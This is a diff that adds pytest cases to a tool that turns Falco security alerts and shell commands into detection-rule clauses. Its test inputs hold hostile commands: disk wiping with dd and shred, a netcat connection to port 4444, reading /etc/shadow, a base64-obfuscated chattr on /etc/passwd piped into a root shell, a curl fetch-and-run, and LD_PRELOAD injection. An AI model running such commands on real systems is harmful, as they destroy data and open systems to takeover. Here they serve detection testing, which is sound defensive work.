@@ -92,7 +92,73 @@ def test_it_proposes_the_clause_that_matters(text: str, expected: str) -> None:
     ],
 )
 def test_it_reads_alerts(alert: dict[str, object], expected: str) -> None:
-    assert [parse(clause) for clause in clauses(json.dumps(alert))] == [parse(expected)]
+    assert parse(clauses(json.dumps(alert))[-1]) == parse(expected)
+
+
+@pytest.mark.parametrize(
+    ("line", "expected", "fields"),
+    [
+        (
+            "16:00:29.001414928: Critical Bulk data removed from disk (user=root command=shred -u /srv/a file=/srv/a) "
+            "container_id=host",
+            "evt.type in (open, openat, openat2) and fd.name = /srv/a and proc.name = shred",
+            {"user.name": "root", "proc.cmdline": "shred -u /srv/a", "container.id": "host"},
+        ),
+        (
+            "2024-03-20T16:00:29.001414928+0000: Warning Disk overwritten | evt_type=execve user=root user_uid=0 "
+            "process=dd proc_exepath=/usr/bin/dd parent=bash command=dd if=/dev/zero of=/dev/sda terminal=34816",
+            'spawned_process and proc.name = dd and proc.args contains "if=/dev/zero" and '
+            'proc.args contains "of=/dev/sda"',
+            {"proc.exepath": "/usr/bin/dd", "proc.pname": "bash", "proc.tty": 34816, "user.uid": 0},
+        ),
+        (
+            "Mar 20 16:00:29 web falco[812]: 16:00:29.1: Notice Out | connection=10.0.0.5:4->203.0.113.7:4444 "
+            "evt_type=connect process=nc gparent=<NA>",
+            "evt.type = connect and fd.sip = 203.0.113.7 and fd.sport = 4444 and proc.name = nc",
+            {"fd.sport": 4444},
+        ),
+    ],
+)
+def test_it_reads_alerts_as_text(line: str, expected: str, fields: dict[str, object]) -> None:
+    proposal = describe.propose(line)[-1]
+    assert parse(proposal.clause) == parse(expected)
+    assert fields.items() <= proposal.event.fields.items()
+    assert "proc.aname[2]" not in fields
+
+
+def test_it_knows_alerts_that_the_library_knows() -> None:
+    found = describe.propose("16:00:29.1: Warning Read (file=/etc/shadow command=cat /etc/shadow evt_type=openat)")
+    assert found[0].behaviour == "t1003-008-read-shadow"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "echo Y2hhdHRyICtpIC9ldGMvcGFzc3dk | base64 -d | sudo sh",
+        "base64 --decode <<< Y2hhdHRyICtpIC9ldGMvcGFzc3dk | bash",
+        "printf %s 6368617474722b | cat; echo 'chattr +i /etc/passwd' | sh",
+        "bash <<< 'chattr +i /etc/passwd'",
+        "cat <<END | sh\nchattr +i /etc/passwd\nEND\n",
+        "sh -c 'echo Y2hhdHRyICtpIC9ldGMvcGFzc3dk | base64 -d | sh'",
+    ],
+)
+def test_it_reads_what_is_piped_into_a_shell(text: str) -> None:
+    assert "spawned_process and proc.name = chattr and proc.args contains +i and proc.args contains /etc/passwd" in (
+        clauses(text)
+    )
+
+
+@pytest.mark.parametrize("text", ['bash -c "$(curl -s http://x/y)"', "$TOOL -rf /x", "eval $(cat a) -rf /x", "\0\1"])
+def test_it_proposes_no_program_that_only_the_shell_knows(text: str) -> None:
+    assert {proposal.event.fields["proc.name"] for proposal in describe.propose(text)} <= {"curl", "cat"}
+
+
+def test_it_looks_at_the_environment_that_a_command_is_given() -> None:
+    assert "t1574-006-ld-preload-env" in [one.behaviour for one in describe.propose("LD_PRELOAD=/tmp/a.so id")]
+
+
+def test_it_leaves_out_how_dd_copies() -> None:
+    assert not [clause for clause in clauses("dd if=/dev/zero of=/dev/sda bs=1M status=none") if "bs=" in clause]
 
 
 def test_it_knows_what_the_library_knows() -> None:
@@ -112,6 +178,7 @@ def test_it_reads_alerts_and_commands_mixed_and_keeps_their_lines() -> None:
         ("echo 'a", "not closed"),
         ('{"output_fields": {"x": 1', "not complete JSON"),
         ('{"a": 1}', "no output_fields"),
+        ("16:00:29.1: Notice nothing to see", "no key=value"),
         ("ls", ""),
         ("echo hello", "Nothing here tells an attack"),
         ("a\n" * 300, "first 200 commands"),
